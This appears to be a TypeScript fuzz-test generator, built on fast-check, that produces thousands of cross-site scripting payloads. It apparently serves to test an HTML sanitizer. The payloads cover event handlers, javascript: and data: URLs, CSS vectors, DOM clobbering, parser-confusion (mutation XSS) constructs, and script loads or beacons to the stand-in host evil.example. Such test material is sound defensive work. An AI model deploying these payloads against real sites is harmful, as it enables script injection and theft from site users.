/** Generated hostile markup: every element with every known handler, spelling, nesting and misreading. */
import fc, { type Arbitrary } from "fast-check";
import { MATHML } from "../../src/html/formulas.ts";

/** Markup whose script calls `alert` with the marker if it runs. */
type Vector = (marker: number) => string;
/** Markup around other markup. */
type Around = (inner: string) => string;

const oneOf = <Value>(...values: Value[]): Arbitrary<Value> => fc.constantFrom(...values);
const word = (list: string): Arbitrary<string> => oneOf(...list.trim().split(/\s+/));

const TAGS = word(`
  a abbr address applet area article aside audio b base basefont bdi bdo bgsound big blink blockquote body br button canvas caption
  center cite code col colgroup command content custom-element data datalist dd del details dfn dialog dir div dl dt em embed
  fencedframe fieldset figcaption figure font footer form frame frameset h1 h2 h6 head header hgroup hr html i iframe image img
  input ins isindex kbd keygen label layer legend li link listing main map mark marquee menu menuitem meta meter model multicol nav
  nextid nobr noembed noframes noscript object ol optgroup option output p param picture plaintext portal pre progress q rb rbc rp
  rt rtc ruby s samp script search section select selectedcontent shadow slot small source spacer span strike strong style sub
  summary sup svg table tbody td template textarea tfoot th thead time title tr track tt u ul var video wbr x xmp xss math
`);
const FOREIGN_TAGS = word(`
  ${MATHML.join(" ")}
  a animate animateMotion animateTransform animateColor circle clipPath defs desc discard ellipse feImage filter font-face-uri
  foreignObject g handler image line linearGradient listener marker mask metadata mpath path pattern rect script set style switch
  symbol text textPath title tspan use view annotation annotation-xml maction malignmark mglyph mi mn mo mprescripts ms mspace
  mstyle mtext semantics
`);

/** Handlers that fire by themselves, handlers that wait for the reader, and the newest ones. */
const HANDLERS = word(`
  onabort onactivate onafterprint onafterscriptexecute onanimationcancel onanimationend onanimationiteration onanimationstart
  onauxclick onbeforecopy onbeforecut onbeforeinput onbeforematch onbeforepaste onbeforeprint onbeforescriptexecute onbeforetoggle
  onbeforeunload onbegin onblur onbounce oncancel oncanplay oncanplaythrough onchange onclick onclose oncommand
  oncontentvisibilityautostatechange oncontextlost oncontextmenu oncontextrestored oncopy oncuechange oncut ondblclick ondrag
  ondragend ondragenter ondragexit ondragleave ondragover ondragstart ondrop ondurationchange onemptied onend onended onerror
  onfencedtreeclick onfinish onfocus onfocusin onfocusout onformdata onfullscreenchange ongesturestart ongotpointercapture
  onhashchange oninput oninterest oninvalid onkeydown onkeypress onkeyup onload onloadeddata onloadedmetadata onloadstart
  onlocation onloseinterest onlostpointercapture onmessage onmousedown onmouseenter onmouseleave onmousemove onmouseout onmouseover
  onmouseup onmousewheel onmozfullscreenchange onoffline ononline onpagehide onpagereveal onpageshow onpageswap onpaste onpause
  onplay onplaying onpointercancel onpointerdown onpointerenter onpointermove onpointerout onpointerover onpointerrawupdate
  onpointerup onpopstate onprogress onpromptaction onpromptdismiss onratechange onreadystatechange onrepeat onreset onresize
  onscroll onscrollend onscrollsnapchange onscrollsnapchanging onsearch onsecuritypolicyviolation onseeked onseeking onselect
  onselectionchange onselectstart onshow onslotchange onstalled onstart onstorage onsubmit onsuspend ontimeupdate ontoggle
  ontouchcancel ontouchend ontouchmove ontouchstart ontransitioncancel ontransitionend ontransitionrun ontransitionstart
  onunhandledrejection onunload onvalidationstatuschange onvolumechange onwaiting onwebkitanimationend onwebkitanimationstart
  onwebkitfullscreenchange onwebkittransitionend onwebkitwillrevealbottom onwheel
`);

const script: Arbitrary<Vector> = oneOf<Vector>(
  (marker) => `alert(${marker})`,
  (marker) => `alert(${marker})//`,
  (marker) => `;alert(${marker});`,
  (marker) => `alert\`${marker}\``,
  (marker) => `window["al"+"ert"](${marker})`,
  (marker) => `self[/alert/.source](${marker})`,
  (marker) => `\\u0061lert(${marker})`,
  (marker) => `\\u{61}\\u{6c}ert(${marker})`,
  (marker) => `[${marker}].map(alert)`,
  (marker) => `(0,alert)(${marker})`,
  (marker) => `setTimeout(alert,0,${marker})`,
  (marker) => `setTimeout('alert(${marker})')`,
  (marker) => `new Function("alert(${marker})")()`,
  (marker) => `eval('ale'+'rt(${marker})')`,
  (marker) => `Reflect.apply(alert,null,[${marker}])`,
  (marker) => `{onerror=alert;throw ${marker}}`,
  (marker) => `import("data:text/javascript,alert(${marker})")`,
  (marker) => `document.defaultView.alert(${marker})`,
  (marker) => `/**/confirm(${marker})`,
  (marker) => `x=prompt;x(${marker})`,
);

/** One character as a reference, in the spellings that browsers take. */
const REFERENCES: ((char: string) => string)[] = [
  (char) => `&#${char.charCodeAt(0)};`,
  (char) => `&#x${char.charCodeAt(0).toString(16)};`,
  (char) => `&#X000${char.charCodeAt(0).toString(16).toUpperCase()};`,
  (char) => `&#0000${char.charCodeAt(0)};`,
];

/** How often a character is written as a reference: never, always, every second, every fifth. */
const spelling: Arbitrary<Around> = fc
  .tuple(fc.constantFrom(...REFERENCES), oneOf(0, 0, 0, 0, 1, 2, 5))
  .map(([reference, every]) => (text: string) => {
    if (every === 0) return text.replaceAll("&", "&amp;");
    return [...text].map((char, index) => (char === "&" || index % every === 0 ? reference(char) : char)).join("");
  });

const quoting: Arbitrary<Around> = oneOf<Around>(
  (value) => `"${value.replaceAll('"', "&quot;")}"`,
  (value) => `"${value.replaceAll('"', "&quot;")}"`,
  (value) => `'${value.replaceAll("'", "&#39;")}'`,
  (value) => value.replace(/[\s"'<>`]/g, (char) => `&#${char.charCodeAt(0)};`),
);

const quoted: Arbitrary<Around> = fc.tuple(spelling, quoting).map(
  ([spell, quote]) =>
    (value) =>
      quote(spell(value)),
);

/** Separators between a tag's name and its attributes. */
const gap = oneOf(" ", " ", " ", "/", "\n", "\t", "\f", "\r\n", " / ", "//", ' "', " x=y ", " \0");
const equals = oneOf("=", "=", "=", " = ", "=\n", "\t=");

const cased: Arbitrary<Around> = oneOf<Around>(
  (name) => name,
  (name) => name,
  (name) => name.toUpperCase(),
  (name) => name.replace(/.(.)/g, (pair) => pair.charAt(0) + pair.charAt(1).toUpperCase()),
);

const SCRIPT_SCHEMES = oneOf(
  "javascript:",
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  "java\nscript:",
  "java\r\nscript:",
  "\u0001javascript:",
  " \u001f javascript:",
  "\u00a0javascript:",
  "java\0script:",
  "javascript\t:",
  "javascript://x%0a",
  "javascript:/*x*/",
  "javascript://x/?%0d",
  "javascript:void%200;",
  "jav\u0430script:",
  "view-source:javascript:",
  "feed:javascript:",
  "vbscript:",
  "livescript:",
  "mocha:",
);

const base64 = (text: string): string => Buffer.from(text).toString("base64");

const address: Arbitrary<Vector> = fc.oneof(
  {
    weight: 4,
    arbitrary: fc.tuple(SCRIPT_SCHEMES, script).map(
      ([scheme, code]): Vector =>
        (marker) =>
          scheme + code(marker),
    ),
  },
  {
    weight: 2,
    arbitrary: oneOf<Vector>(
      (marker) => `data:text/html,<script>alert(${marker})</script>`,
      (marker) => `data:text/html;base64,${base64(`<img src=x onerror=alert(${marker})>`)}`,
      (marker) => `data:text/html;charset=utf-7,+ADw-script+AD4-alert(${marker})+ADw-/script+AD4-`,
      (marker) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(${marker})"/>`,
      (marker) =>
        `data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(${marker})</script></svg>`)}`,
      (marker) => `data:text/javascript,alert(${marker})`,
      (marker) => `data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">alert(${marker})</script>`,
      (marker) => `data:text/css,*{background:url(https://evil.example/${marker})}`,
      (marker) => `data:,alert(${marker})`,
      (marker) => `blob:https://evil.example/${marker}`,
      (marker) => `filesystem:https://evil.example/temporary/${marker}.html`,
      (marker) => `//evil.example/${marker}.js`,
      (marker) => `\\\\evil.example\\${marker}`,
      (marker) => `https:evil.example/${marker}`,
      (marker) => `https://evil.example/${marker}?x=<script>alert(${marker})</script>`,
      (marker) => `#"><img src=x onerror=alert(${marker})>`,
    ),
  },
);

const ADDRESS_ATTRIBUTES = word(`
  href src srcdoc srcset imagesrcset data action formaction poster background cite longdesc xlink:href xml:base codebase classid code
  archive lowsrc dynsrc ping manifest icon profile usemap content to from by values attributionsrc blocking data-embed
`);

const STYLES: Arbitrary<Vector> = oneOf<Vector>(
  (marker) => `background:url(https://evil.example/${marker})`,
  (marker) => `background:url("javascript:alert(${marker})")`,
  (marker) => `width:expression(alert(${marker}))`,
  (marker) => `-moz-binding:url(data:text/xml,${marker})`,
  (marker) => `behavior:url(#default#time2)/*${marker}*/`,
  (marker) => `list-style-image:\\75rl(https://evil.example/${marker})`,
  () => "position:fixed;inset:0;z-index:99999;display:block;opacity:0",
  () => "animation:spin 1s;transition:all 1s",
  () => "</style><script>alert(0)</script>",
);

const clobberer = word(`
  document window location body head documentElement forms cookie domain currentScript getElementById querySelector createElement
  implementation defaultView parentNode attributes children childNodes firstChild nodeName ownerDocument innerHTML textContent
  nextSibling removeAttribute setAttribute submit action method alert top self parent name length __proto__ constructor prototype
  toString valueOf hasOwnProperty content reactions probe
`);

/** Attributes that trigger a handler without the reader, or change an element's kind. */
const LURES = oneOf(
  "autofocus",
  "tabindex=0 autofocus",
  "contenteditable autofocus",
  "open",
  "autoplay controls",
  "popover=auto",
  "popovertarget=x popovertargetaction=show",
  "command=show-popover commandfor=x",
  "hidden=until-found",
  "style=animation-name:x;content-visibility:auto;display:block",
  "accesskey=x",
  "draggable=true",
  "is=x-y",
  "slot=x part=x exportparts=x",
  "type=image",
  "type=submit form=x",
  "type=text/html",
  "rel=stylesheet",
  "rel=import as=script",
  "rel=preload as=script",
  "http-equiv=refresh",
  "http-equiv=set-cookie",
  "loading=eager fetchpriority=high",
  "attributeName=href dur=1s",
  "attributeName=onload begin=0s",
  "encoding=text/html",
  "encoding=application/xhtml+xml",
  "shadowrootmode=open",
  "sandbox allow=*",
  "target=_top",
  "target=_blank rel=opener",
  "download ping=https://evil.example/",
  "nonce=x integrity=x",
  "class=site-header",
  "class=language-x",
  "lang=x dir=ltr",
  'xmlns="http://www.w3.org/1999/xhtml"',
  'xmlns:x="http://www.w3.org/1999/xhtml"',
  "color=x face=x size=x",
  "width=1 height=1",
  "type=element tagname=script",
);

const attribute: Arbitrary<Vector> = fc.oneof(
  {
    weight: 5,
    arbitrary: fc.tuple(HANDLERS, cased, equals, script, quoted).map(
      ([name, casing, is, code, quote]): Vector =>
        (marker) =>
          casing(name) + is + quote(code(marker)),
    ),
  },
  {
    weight: 3,
    arbitrary: fc.tuple(ADDRESS_ATTRIBUTES, cased, equals, address, quoted).map(
      ([name, casing, is, url, quote]): Vector =>
        (marker) =>
          casing(name) + is + quote(url(marker)),
    ),
  },
  {
    weight: 1,
    arbitrary: fc.tuple(STYLES, quoted).map(
      ([style, quote]): Vector =>
        (marker) =>
          `style=${quote(style(marker))}`,
    ),
  },
  {
    weight: 1,
    arbitrary: fc.tuple(word("id name class for form"), clobberer).map(
      ([name, value]): Vector =>
        () =>
          `${name}=${value}`,
    ),
  },
  {
    weight: 2,
    arbitrary: LURES.map(
      (lure): Vector =>
        () =>
          lure,
    ),
  },
);

const ends = oneOf(">", ">", ">", "/>", " >", ">x", "", "\n>");

/** Any element with any attributes. */
const anyElement: Arbitrary<Vector> = fc
  .tuple(fc.oneof(TAGS, FOREIGN_TAGS), cased, fc.array(fc.tuple(gap, attribute), { minLength: 1, maxLength: 4 }), ends)
  .map(
    ([name, casing, attributes, end]): Vector =>
      (marker) =>
        `<${casing(name)}${attributes.map(([space, one]) => space + one(marker)).join("")}${end}`,
  );

/** Elements with the handler that they trigger themselves; `{script}` stands for the quoted script. */
const EAGER = oneOf(
  "<img src=x onerror={script}>",
  "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw== onload={script}>",
  "<image src=x onerror={script}>",
  "<svg onload={script}>",
  "<svg><g onload={script}></g></svg>",
  "<svg><animate onbegin={script} attributeName=x dur=1s>",
  "<svg><set onbegin={script} attributeName=x to=y>",
  "<svg><image href=x onerror={script}>",
  "<svg><script>alert(0)</script><g/onload={script}>",
  "<body onload={script}>",
  "<body onpageshow={script}>",
  "<video><source onerror={script}></video>",
  "<video src=x onerror={script}></video>",
  "<audio src=x onerror={script}></audio>",
  "<details open ontoggle={script}><summary>x</summary></details>",
  "<input autofocus onfocus={script}>",
  "<button autofocus onfocusin={script}>x</button>",
  "<textarea autofocus onfocus={script}></textarea>",
  "<select autofocus onfocus={script}></select>",
  "<p tabindex=0 autofocus onfocus={script}>x</p>",
  "<x contenteditable autofocus onfocus={script}>x</x>",
  "<marquee onstart={script}>x</marquee>",
  "<audio><source src=x onerror={script}></audio>",
  "<video controls><source src=x type=video/mp4 onerror={script}></video>",
  "<video src=x><track src=x kind=captions default onerror={script}></video>",
  "<picture><source srcset=x onerror={script}><img src=x onerror={script}></picture>",
  "<math><mrow onmouseover={script}><mi onclick={script}>x</mi></mrow></math>",
  "<math><mfrac><mn autofocus tabindex=0 onfocus={script}>1</mn><mn>2</mn></mfrac></math>",
  "<math><semantics><mi>x</mi><annotation-xml encoding=text/html><img src=x onerror={script}></annotation-xml></semantics></math>",
  "<math alttext={script}><mtext><img src=x onerror={script}></mtext></math>",
  "<iframe onload={script}></iframe>",
  "<object data=x onerror={script}></object>",
  "<embed src=x onerror={script}>",
  "<link rel=stylesheet href=x onerror={script}>",
  "<style onload={script}></style>",
  "<script src=x onerror={script}></script>",
  "<input type=image src=x onerror={script}>",
  "<div popover id=x onbeforetoggle={script}>x</div><button popovertarget=x>y</button>",
  "<div onscrollsnapchange={script} style='overflow:auto;scroll-snap-type:y mandatory'>x</div>",
  "<dialog open onclose={script}><form method=dialog><button>x</button></form></dialog>",
  "<div hidden=until-found onbeforematch={script}>x</div>",
  "<a href=# onclick={script}>x</a>",
  "<template shadowrootmode=open><img src=x onerror={script}></template>",
);

/** Elements that lead to an address; `{address}` stands for it, quoted. */
const LEADING = oneOf(
  "<a href={address}>x</a>",
  "<a href={address} target=_blank rel=opener>x</a>",
  "<map name=m><area href={address} shape=default></map><img usemap=#m src=x>",
  "<svg><a href={address}><text y=9>x</text></a></svg>",
  "<svg><a xlink:href={address}><text y=9>x</text></a></svg>",
  "<svg><a><animate attributeName=href values={address} /><text y=9>x</text></a></svg>",
  "<svg><a><set attributeName=xlink:href to={address} /><text y=9>x</text></a></svg>",
  "<svg><use href={address}></use></svg>",
  "<svg><script href={address}></script></svg>",
  "<svg><image xlink:href={address}></image></svg>",
  "<math><mi href={address}>x</mi></math>",
  "<math xlink:href={address}>x</math>",
  "<form action={address}><input name=x><button>x</button></form>",
  "<form><button formaction={address}>x</button></form>",
  "<form><input type=submit formaction={address}></form>",
  "<form id=f></form><button form=f formaction={address}>x</button>",
  "<iframe src={address}></iframe>",
  "<object data={address}></object>",
  "<object><param name=src value={address}></object>",
  "<embed src={address}>",
  "<frameset><frame src={address}></frameset>",
  "<script src={address}></script>",
  "<script type=module src={address}></script>",
  "<link rel=stylesheet href={address}>",
  "<link rel=modulepreload href={address}>",
  "<link rel=manifest href={address}>",
  "<base href={address}><a href=x>x</a>",
  "<meta http-equiv=refresh content='0;url='{address}>",
  "<img src={address}>",
  "<img srcset={address}>",
  "<picture><source srcset={address}><img src=x></picture>",
  "<video src={address} poster={address} autoplay></video>",
  "<audio autoplay><source src={address}></audio>",
  "<video><track src={address} default></video>",
  "<audio controls src={address}></audio>",
  "<video controls preload=auto><source src={address} type=video/mp4></video>",
  "<video controls><track src={address} kind=captions srclang=en label=x default></video>",
  "<picture><source srcset={address} type=image/avif media=all><img srcset={address} src=x></picture>",
  "<math><mrow href={address}><mn>1</mn></mrow></math>",
  "<math><msup xlink:href={address}><mi>x</mi><mn>2</mn></msup></math>",
  "<math><mtext><a href={address}>x</a></mtext></math>",
  "<math><maction actiontype=statusline xlink:href={address}><mi>x</mi></maction></math>",
  "<math><semantics><mi>x</mi><annotation-xml src={address}></annotation-xml></semantics></math>",
  "<table background={address}><td background={address}>x</table>",
  "<blockquote cite={address}>x</blockquote><q cite={address}>y</q>",
  "<input type=image src={address}>",
  "<isindex action={address}>",
  "<applet code={address} archive={address}></applet>",
  "<portal src={address}></portal>",
  "<a href=https://news.example/ ping={address}>x</a>",
  "<figure data-embed={address}><a href={address}>x</a></figure>",
);

const eager: Arbitrary<Vector> = fc.tuple(EAGER, script, quoted).map(
  ([shape, code, quote]): Vector =>
    (marker) =>
      shape.replaceAll("{script}", () => quote(code(marker))),
);

const leading: Arbitrary<Vector> = fc.tuple(LEADING, address, quoted).map(
  ([shape, url, quote]): Vector =>
    (marker) =>
      shape.replaceAll("{address}", () => quote(url(marker))),
);

/** Whole constructs: scripts, styles, frames with documents, refreshes, and unfinished markup. */
const whole: Arbitrary<Vector> = fc.tuple(script, STYLES, gap).chain(([code, style, space]) =>
  oneOf<Vector>(
    (marker) => `<script>${code(marker)}</script>`,
    (marker) => `<script${space}type=text/javascript>${code(marker)}</script >`,
    (marker) => `<script type=module>${code(marker)}</script x=">">`,
    (marker) => `<SCRIPT>${code(marker)}</SCRIPT\t>`,
    (marker) => `<scr<script>ipt>${code(marker)}</scr</script>ipt>`,
    (marker) => `<script><!--\n${code(marker)}\n--></script>`,
    (marker) => `<script>//<![CDATA[\n${code(marker)}\n//]]></script>`,
    (marker) => `<script>${code(marker)}`,
    (marker) => `<script type=importmap>{"imports":{"x":"data:text/javascript,alert(${marker})"}}</script>`,
    (marker) => `<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/${marker}"]}]}</script>`,
    (marker) => `<svg><script>${code(marker)}</script></svg>`,
    (marker) => `<svg><script>&#97;lert(${marker})</script></svg>`,
    (marker) => `<math><script>${code(marker)}</script></math>`,
    (marker) => `<style>*{${style(marker)}}</style>`,
    (marker) => `<style>@import "https://evil.example/${marker}.css";</style>`,
    (marker) => `<svg><style>@import url(//evil.example/${marker});</style></svg>`,
    (marker) => `<style>@font-face{font-family:x;src:url(//evil.example/${marker})}*{font-family:x}</style>x`,
    (marker) => `<link rel=stylesheet href="data:text/css,*{${encodeURIComponent(style(marker))}}">`,
    (marker) => `<iframe srcdoc="<script>${code(marker).replaceAll('"', "&quot;")}</script>"></iframe>`,
    (marker) => `<iframe srcdoc='&lt;img src=x onerror=alert(${marker})&gt;'></iframe>`,
    (marker) => `<object data="data:text/html,<script>parent.alert(${marker})</script>"></object>`,
    (marker) => `<meta http-equiv=refresh content="0;url=javascript:alert(${marker})">`,
    (marker) => `<meta http-equiv="refresh" content="0; URL='data:text/html,<script>alert(${marker})</script>'">`,
    (marker) => `<meta http-equiv=Content-Security-Policy content="img-src 'none'; report-uri /${marker}">`,
    (marker) => `<base href=//evil.example/${marker}/ target=_top><a href=x>x</a><img src=x>`,
    (marker) => `<img src='https://evil.example/?${marker}`,
    (marker) => `<a href='https://evil.example/?${marker}>x<p>"y`,
    (marker) => `<form action=https://evil.example/${marker}><button>x<textarea name=y>`,
    (marker) => `<form action="javascript:alert(${marker})"><input type=submit id=x></form><label for=x>x</label>`,
    (marker) => `<form id=probe action=https://evil.example/${marker}><input name=action><input name=submit></form>`,
    (marker) => `<a id=probe><a id=probe name=x href=https://evil.example/${marker}>x</a>`,
    (marker) =>
      `<button onclick="alert(${marker})" popovertarget=y>x</button><p popover id=y ontoggle=alert(${marker})>`,
    (marker) => `<xml id=x><i onload=alert(${marker})></xml><span datasrc=#x datafld=i dataformatas=html>`,
    (marker) =>
      `<?xml-stylesheet href="javascript:alert(${marker})"?><?php echo "<script>alert(${marker})</script>" ?>`,
    (marker) => `<!--[if gte IE 4]><script>alert(${marker})</script><![endif]-->`,
    (marker) => `<!doctype html [<!entity x "<script>alert(${marker})</script>">]>&x;`,
    (marker) => `<event-source src=https://evil.example/${marker}><bgsound src=javascript:alert(${marker})>`,
    (marker) => `<t:set attributeName=innerHTML to="<img src=x onerror=alert(${marker})>">`,
    (marker) => `<custom-element onconnected=alert(${marker})><x-y is=script>alert(${marker})</x-y></custom-element>`,
    (marker) => `</article></main></body></html><script>alert(${marker})</script>`,
    (marker) => `</div></article></main><p id=after onclick=alert(${marker})>outside</p>`,
  ),
);

/** Constructs that one parser reads as text and another as markup; `{markup}` stands in that place. */
const TURNING = oneOf(
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{escaped}">`,
  `<form><math><mtext></form><form><mglyph><style></math>{markup}`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>{markup}">`,
  `<math><mtext><table><mglyph><style><math>{markup}</style>`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>{markup}">`,
  `<math><annotation-xml encoding="text/html"><style>{markup}</style></annotation-xml></math>`,
  `<math><annotation-xml encoding="text/html"><xmp><p title="</xmp>{markup}">`,
  `<math><mi><malignmark><style><!--</style>{markup}--></malignmark>`,
  `<math><p></p><style><!--</style>{markup}--></style></math>`,
  `<svg></p><style><a id="</style>{markup}">`,
  `<svg></br><style><a id="</style>{markup}">`,
  `<svg><p><style><a id="</style>{markup}"></svg>`,
  `<svg><style><![CDATA[</style>{markup}]]></style></svg>`,
  `<svg><style>&lt;/style&gt;{markup}</style></svg>`,
  `<svg><title><style></title></style>{markup}`,
  `<svg><desc><svg><style><a title="</desc>{markup}">`,
  `<svg><foreignObject><math><mi><svg><style><a title="</style></svg>{markup}">`,
  `<svg><![CDATA[><x title="]]>{markup}">`,
  `<table><svg><style></table>{markup}</style></svg>`,
  `<table><math><select><mtext><style></table>{markup}`,
  `<select><template><style></select>{markup}</style></template>`,
  `<select><svg><style></select>{markup}`,
  `<noscript><p title="</noscript>{markup}"></noscript>`,
  `<noscript><style></noscript>{markup}</style>`,
  `<noembed><p title="</noembed>{markup}">`,
  `<noframes><p title="</noframes>{markup}">`,
  `<xmp><p title="</xmp>{markup}">`,
  `<iframe><p title="</iframe>{markup}">`,
  `<plaintext>{markup}`,
  `<title><p title="</title>{markup}">`,
  `<textarea><p title="</textarea>{markup}">`,
  `<style><p title="</style>{markup}">`,
  `<script><!--<script></script>{markup}--></script>`,
  `<template><template><style></template>{markup}</style>`,
  `<template shadowrootmode=open>{markup}</template>`,
  `<!-->{markup}-->`,
  `<!--->{markup}-->`,
  `<!-- --!>{markup} -->`,
  `<!--x--\0>{markup}-->`,
  `<![CDATA[{markup}]]>`,
  `<!x {markup}>`,
  `<?x {markup}?>`,
  `</x {markup}>`,
  `</ {markup}>`,
  `<%{markup}%>`,
  `<a title="{escaped}" id='{markup}'>`,
  `<p title='"{markup}'>`,
  `<p title="'\`{escaped}">`,
  `<p x="{markup}" y='>{markup}'`,
  `<img alt="\`><{markup}">`,
  `<listing>&lt;img src=x onerror=alert(0)&gt;{escaped}</listing>`,
  `<pre>\n\n{escaped}</pre>`,
  `<details><summary><svg><style></summary>{markup}</style>`,
  `<object><svg><style></object>{markup}</style></svg>`,
  `<video><svg><desc><style></video>{markup}`,
  `<ruby><rtc><math><style></ruby>{markup}`,
  `<frameset>{markup}</frameset>`,
  `<optgroup><option><select>{markup}</select>`,
  `<nobr><nobr>{markup}</nobr>`,
  `<b><p><a><b></p></a>{markup}`,
  `<a><table><a>{markup}</table>`,
  `<table><tr><td><form><table><form>{markup}`,
  `<button><p><button>{markup}`,
  `<h1><svg><h2>{markup}</svg>`,
  `<dl><dd><math><dt>{markup}`,
);

const CONTEXTS: Arbitrary<Around> = fc
  .tuple(
    fc.oneof(TAGS, FOREIGN_TAGS),
    oneOf("", "svg", "math", "table", "select", "template", "svg><foreignObject", "p"),
  )
  .chain(([tag, outer]) =>
    oneOf<Around>(
      (inner) => `<${tag}>${inner}</${tag}>`,
      (inner) => `<${tag}>${inner}`,
      (inner) => `</${tag}>${inner}`,
      (inner) => `${outer && `<${outer}>`}<${tag}>${inner}</${tag}>`,
      (inner) => `${outer && `<${outer}>`}<${tag}>${inner}`,
      (inner) => `<${tag}><${tag}>${inner}</${tag}>`,
    ),
  );

/** Deeper than parsers and browsers nest. */
const DEEP = oneOf<Around>(
  ...["div", "b", "span", "svg><g", "font size=1", "table><td", "blockquote"].map(
    (tags): Around =>
      (inner) =>
        `<${tags}>`.repeat(520) + inner,
  ),
);

const escaped = (text: string): string =>
  text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll('"', "&quot;");

const turning: Arbitrary<Vector> = fc.tuple(TURNING, fc.oneof(eager, eager, anyElement)).map(
  ([shape, vector]): Vector =>
    (marker) =>
      shape
        .replaceAll("{markup}", () => vector(marker).replaceAll('"', "'"))
        .replaceAll("{escaped}", () => escaped(vector(marker))),
);

const nested = (vector: Arbitrary<Vector>): Arbitrary<Vector> =>
  fc
    .tuple(
      fc.array(fc.oneof({ weight: 40, arbitrary: CONTEXTS }, { weight: 1, arbitrary: DEEP }), {
        minLength: 1,
        maxLength: 3,
      }),
      vector,
    )
    .map(
      ([around, inner]): Vector =>
        (marker) =>
          around.reduce((html, wrap) => wrap(html), inner(marker)),
    );

const DIRT = oneOf(
  "\0",
  "\u0001",
  "\t",
  "\n",
  "\f",
  "\r",
  "\u00a0",
  "\u2028",
  "\ufeff",
  "\ud800",
  "&#0;",
  "&#13;",
  "&Tab;",
);
const CRUMBS = oneOf("<", ">", '"', "'", "=", "/", "--", "]]>", "<!", "</", "&");

/** The same with a part inserted, removed or cut off; `at` is the place as a share of the length. */
const torn = (vector: Arbitrary<Vector>): Arbitrary<Vector> =>
  fc.tuple(vector, fc.double({ min: 0, max: 1, noNaN: true }), fc.oneof(DIRT, CRUMBS)).chain(([whole, at, piece]) =>
    oneOf<(html: string, place: number) => string>(
      (html, place) => html.slice(0, place) + piece + html.slice(place),
      (html, place) => html.slice(0, place) + piece + html.slice(place),
      (html, place) => html.slice(0, place) + html.slice(place + 1),
      (html, place) => html.slice(0, Math.max(place, 4)),
    ).map((tear): Vector => (marker) => {
      const html = whole(marker);
      return tear(html, Math.floor(html.length * at));
    }),
  );

const plain = fc.oneof(
  { weight: 4, arbitrary: anyElement },
  { weight: 4, arbitrary: eager },
  { weight: 4, arbitrary: leading },
  { weight: 2, arbitrary: whole },
  { weight: 3, arbitrary: turning },
);

const vector: Arbitrary<Vector> = fc.oneof(
  { weight: 5, arbitrary: plain },
  { weight: 3, arbitrary: nested(plain) },
  { weight: 2, arbitrary: torn(fc.oneof(plain, nested(plain))) },
);

/** So many vectors, the same for the same seed. The marker of each is its place in the list. */
export function vectorsOf(seed: number, count: number): string[] {
  return fc.sample(vector, { seed, numRuns: count }).map((each, marker) => each(marker));
}
